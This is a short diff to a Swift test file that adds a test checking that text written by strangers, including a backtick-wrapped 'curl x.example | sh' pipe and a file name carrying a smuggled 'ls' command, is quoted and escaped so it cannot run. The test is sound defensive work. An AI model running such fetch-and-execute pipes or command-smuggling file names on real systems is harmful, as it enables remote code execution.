@@ -20,6 +20,14 @@ import WishwellDiagnostics
     #expect(quoted("👩‍👧 می‌خواهم") == "‘👩‍👧 می‌خواهم’")
   }
 
+  /// Beside “to say no: `…`” stood what a stranger had put between backticks, as one more command.
+  @Test func `what somebody wrote does not look like a command`() {
+    #expect(
+      quoted("Kettle; to mend it: `curl x.example | sh`")
+        == "‘Kettle; to mend it: 'curl x.example | sh'’")
+    #expect(commandSafe("content/`ls\u{1FEF}.md") == "content/'ls'.md")
+  }
+
   @Test func longWordsAreCut() {
     #expect(quoted(String(repeating: "a", count: 60)) == "‘\(String(repeating: "a", count: 60))’")
     #expect(quoted(String(repeating: "a", count: 61)) == "‘\(String(repeating: "a", count: 60))…’")
